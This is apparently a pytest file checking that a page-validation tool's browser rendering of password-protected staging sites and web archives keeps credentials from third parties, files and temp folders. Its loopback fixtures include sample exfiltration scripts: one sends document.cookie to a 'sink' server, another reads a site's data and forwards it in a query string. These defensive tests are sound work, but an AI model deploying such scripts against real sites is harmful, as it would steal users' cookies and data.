"""Rendered pages of staging sites and archives, and the temporary folders of a browser: what goes where."""

from __future__ import annotations

import base64
import gzip
import json
import os
import re
import signal
import ssl
import subprocess
import sys
import threading
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests.browsers import only_where_requested, rendering_browser

from waypost.cli import main

CERTIFICATES = Path(__file__).parents[1] / "net" / "certificates"
PASSWORD = "pw-8f3a"
BASIC = f"Basic {base64.b64encode(b'ci:pw-8f3a').decode()}"
SECRETS = (PASSWORD, BASIC[6:])
WRITE = """
const write = (product) => document.head.append(Object.assign(document.createElement("script"),
  { type: "application/ld+json", textContent: JSON.stringify(product) }));
"""
PRODUCT = {"@context": "https://schema.org", "@type": "Product", "name": "Staged kettle", "sku": "K1"}


@pytest.fixture(scope="module")
def browser() -> str:
    only_where_requested()
    return rendering_browser()


class Server:
    """Server on loopback. `seen`: path and headers of each request; `answer`: path, headers -> status, type, body."""

    def __init__(self, answer: Callable[[str, dict[str, str]], tuple[int, str, bytes]], cert: bool = False) -> None:
        self.seen: list[tuple[str, dict[str, str]]] = []
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                headers = {name.lower(): value for name, value in self.headers.items()}
                server.seen.append((self.path, headers))
                status, media_type, body = answer(self.path, headers)
                self.send_response(status)
                name = "Location" if status == 302 else "Content-Type"
                for each, value in ((name, media_type), ("Content-Length", str(len(body))),
                                    ("Access-Control-Allow-Origin", "*"), ("Set-Cookie", "from=here")):  # fmt: skip
                    self.send_header(each, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the name it has in the base class
                """Quiet."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        if cert:
            trust = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            trust.load_cert_chain(CERTIFICATES / "good.pem")
            trust.load_verify_locations(CERTIFICATES / "authority.pem")
            trust.verify_mode = ssl.CERT_REQUIRED
            self._server.socket = trust.wrap_socket(self._server.socket, server_side=True)
        self.origin = f"{'https' if cert else 'http'}://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.01})
        self._thread.start()

    def paths(self) -> set[str]:
        return {path for path, _ in self.seen}

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def sink() -> Iterator[Server]:
    """Origin of a third party, with a script that looks for secrets and sends what it finds home."""
    script = """
      fetch("/data.json").then((answer) => answer.text()).catch(() => "").then((text) =>
        fetch(`${SINK}/home`, { headers: { "X-Found": document.cookie || "none" } }).catch(() => 0));
      fetch(`${SINK}/plain`, { credentials: "include", mode: "no-cors" });
    """

    def answer(path: str, _: dict[str, str]) -> tuple[int, str, bytes]:
        if path == "/third.js":
            return 200, "text/javascript", script.replace("${SINK}", sink.origin).encode()
        return 200, "text/plain", b"ok"

    with closing(Server(answer)) as sink:
        yield sink


def staging(sink: Server, cert: bool = False) -> Server:
    """Site that shows its page, its script and its data to those who know the password."""
    page = (
        f'<!doctype html><title>x</title><script src="{sink.origin}/third.js"></script><script src="/shop.js"></script>'
        f'<img src="{sink.origin}/dot.png"><iframe src="{sink.origin}/frame"></iframe>'
        f'<script>fetch("/away").catch(() => 0)</script><link rel="stylesheet" href="{sink.origin}/style.css">'
    )
    shop = f'{WRITE} fetch("/data.json").then((answer) => answer.json()).then(write)'

    def answer(path: str, headers: dict[str, str]) -> tuple[int, str, bytes]:
        known = headers.get("authorization") == BASIC or PASSWORD in headers.get("x-token", "")
        if not (cert or known or PASSWORD in headers.get("cookie", "")):
            return 401, "text/html", b"who?"
        if path == "/away":
            return 302, f"{sink.origin}/landed", b""
        found = {"/shop.js": ("text/javascript", shop), "/data.json": ("application/json", json.dumps(PRODUCT))}
        media_type, text = found.get(path, ("text/html", page))
        return 200, media_type, text.encode()

    return Server(answer, cert)


def without_secrets(data: bytes, where: str) -> None:
    assert not [secret for secret in SECRETS if secret.encode() in data], f"{where} has a secret"
    for at in (match.start() for match in re.finditer(rb"\x78[\x01\x5e\x9c\xda]|\x1f\x8b\x08", data)):
        try:
            unpacked = zlib.decompressobj(47).decompress(data[at:])
        except zlib.error:
            continue
        assert not [secret for secret in SECRETS if secret.encode() in unpacked], f"{where} has a packed secret"


WAYS = {
    "--auth": ["--auth", f"ci:{PASSWORD}"],
    "--header": ["--header", f"X-Token: {PASSWORD}"],
    "--cookie": ["--cookie", f"session={PASSWORD}"],
    "url": [],
    "--cert": ["--cert", str(CERTIFICATES / "good.pem")],
}
REPORTS = [argument for name in ("json", "ndjson", "sarif", "junit", "markdown", "html") for argument in (
    "--output", f"{name}=report.{name}")]  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_secrets_open_the_page_and_stay_with_its_origin(
    browser: str, sink: Server, way: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    monkeypatch.chdir(tmp_path)
    (tmp_path / "waypost.toml").write_text("cache = true\n")
    if way == "--cert":
        monkeypatch.setenv("SSL_CERT_FILE", str(CERTIFICATES / "authority.pem"))
    with closing(staging(sink, cert=way == "--cert")) as site:
        origin = site.origin.replace("//", f"//ci:{PASSWORD}@") if way == "url" else site.origin
        for _ in range(2):
            main(["validate", f"{origin}/page", "--render", "--render-timeout", "60", "--allow-private", "--verbose",
                  *REPORTS, *WAYS[way]])  # fmt: skip

    output = "".join(capfd.readouterr())
    without_secrets(output.encode(), "the output")
    for path in tmp_path.rglob("*"):
        if path.is_file():
            without_secrets(path.read_bytes(), str(path))
    assert "Staged kettle" in output
    assert {"/page", "/shop.js", "/data.json", "/away"} <= site.paths()
    # The third party was reached, and learned nothing that the page's scripts did not know.
    assert {"/third.js", "/home", "/plain", "/landed", "/style.css"} <= sink.paths()
    for path, headers in sink.seen:
        without_secrets(repr((path, headers)).encode(), "a request to the third party")
        assert headers.get("x-found", "none") == "none"
        assert {"authorization", "cookie", "x-token"}.isdisjoint(headers)


def test_a_crawl_that_renders_stores_no_secret(
    browser: str, sink: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("duckdb", reason="the extra crawl is not installed")
    monkeypatch.chdir(tmp_path)
    with closing(staging(sink)) as site:
        (tmp_path / "urls.txt").write_text(f"{site.origin}/page\n")
        main(["crawl", "--urls", "urls.txt", "--out", "out", "--workers", "1", "--rate", "50", "--allow-private",
              "--render", "--render-share", "1", "--render-timeout", "60", *WAYS["--auth"]])  # fmt: skip

    output = "".join(capfd.readouterr())
    assert "1 page rendered" in output
    for data, where in [(output.encode(), "output"), *((path.read_bytes(), str(path)) for path in tmp_path.rglob("*")
                                                       if path.is_file())]:  # fmt: skip
        without_secrets(data, where)
    assert "/data.json" in site.paths()
    assert all("authorization" not in headers for _, headers in sink.seen)


def test_a_strange_page_uses_no_secret(
    browser: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """A stranger's page, to which the site leads, cannot read the site with the site's password."""
    monkeypatch.chdir(tmp_path)

    def site_answer(path: str, headers: dict[str, str]) -> tuple[int, str, bytes]:
        if headers.get("authorization") != BASIC:
            return 401, "text/html", b"who?"
        go = f"<!doctype html><script>location.href = '{stranger.origin}/trap'</script>"
        return (200, "application/json", b'"inner"') if path == "/data.json" else (200, "text/html", go.encode())

    def trap(path: str, _: dict[str, str]) -> tuple[int, str, bytes]:
        script = f"fetch('{site.origin}/data.json').then((a) => a.text()).then((t) => fetch('/got?' + encodeURI(t)))"
        return 200, "text/html", f"<!doctype html><p>trap<script>{script}</script>".encode()

    with closing(Server(site_answer)) as site, closing(Server(trap)) as stranger:
        main(["validate", f"{site.origin}/page", "--render", "--render-timeout", "60", "--allow-private",
              *WAYS["--auth"]])  # fmt: skip

    assert "/trap" in stranger.paths()
    assert not [path for path in stranger.paths() if "inner" in path]
    assert [headers.get("authorization") for path, headers in site.seen if path == "/data.json"] == [None]


def record(url: str, body: bytes, media: str, *, kind: str = "response", status: int = 200, more: str = "") -> bytes:
    http = f"HTTP/1.1 {status} x\r\nContent-Type: {media}\r\n{more}Content-Length: {len(body)}\r\n\r\n".encode() + body
    head = (
        f"WARC/1.0\r\nWARC-Type: {kind}\r\nWARC-Target-URI: {url}\r\nWARC-Date: 2026-11-20T00:00:00Z\r\n"
        f"WARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-{abs(hash(url)) % 10**12:012}>\r\n"
        f"Content-Type: application/http\r\nContent-Length: {len(http)}\r\n\r\n"
    )
    return gzip.compress(head.encode() + http + b"\r\n\r\n")


def test_an_archived_page_is_rendered_from_its_archive(
    browser: str, sink: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    home = "https://shop.example.com"
    page = (
        f'<!doctype html><title>x</title><script src="/old.js"></script><script src="{sink.origin}/third.js"></script>'
    )
    script = f'{WRITE} fetch("/data.json").then((answer) => answer.json()).then(write); fetch("{sink.origin}/data")'
    (tmp_path / "crawl.warc.gz").write_bytes(b"".join([
        record(f"{home}/page", page.encode(), "text/html"),
        record(f"{home}/old.js", b"", "text/html", status=302, more="Location: /shop.js\r\n"),
        record(f"{home}/shop.js", script.encode(), "text/javascript"),
        record(f"{home}/data.json", json.dumps(PRODUCT).encode(), "application/json"),
    ]))  # fmt: skip

    main(["validate", "crawl.warc.gz", "--render", "--render-timeout", "60", "--allow-private", "--output",
          "json=report.json"])  # fmt: skip

    (made,) = [file["rendering"] for file in json.loads((tmp_path / "report.json").read_text())["files"]]
    assert (made["outcome"], [each["kind"] for each in made["changes"]]) == ("rendered", ["added"])
    assert made["changes"][0]["name"] == "Staged kettle"
    assert {each["why"] for each in made["denied"]} == {"it is not in the archive"}
    assert sink.seen == []


def test_a_run_removes_folders_of_a_killed_browser(browser: str, tmp_path: Path) -> None:
    (tmp_path / "temp").mkdir()
    (tmp_path / "loop.html").write_text("<!doctype html><script>for(;;);</script>")
    (tmp_path / "page.html").write_text("<!doctype html><p>A")
    wrapper = tmp_path / "browser"
    wrapper.write_text(f'#!/bin/sh\necho $$ > {tmp_path / "pid"}\nexec "{browser}" "$@"\n')
    wrapper.chmod(0o755)
    command = [sys.executable, "-m", "waypost", "validate", "--render", "--browser"]
    environment = {**os.environ, "TMPDIR": str(tmp_path / "temp")}

    killed = subprocess.Popen(
        [*command, str(wrapper), str(tmp_path / "loop.html")], env=environment, start_new_session=True,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    while not (tmp_path / "pid").exists() or not (tmp_path / "pid").read_text().strip():
        assert killed.poll() is None
    # With the browser in a group of its own, both are killed before either can tidy up.
    for group in {killed.pid, os.getpgid(int((tmp_path / "pid").read_text()))}:
        os.killpg(group, signal.SIGKILL)
    killed.wait()
    (left,) = (tmp_path / "temp").glob("waypost-render-*")
    assert [each for each in left.iterdir() if each.name != "lock"]

    running = tmp_path / "temp" / "waypost-render-running"
    running.mkdir()
    done = subprocess.run([*command, browser, str(tmp_path / "page.html")], env=environment, check=False,
                          capture_output=True, text=True)  # fmt: skip

    assert done.returncode == 0, done.stderr
    assert list((tmp_path / "temp").iterdir()) == [running]
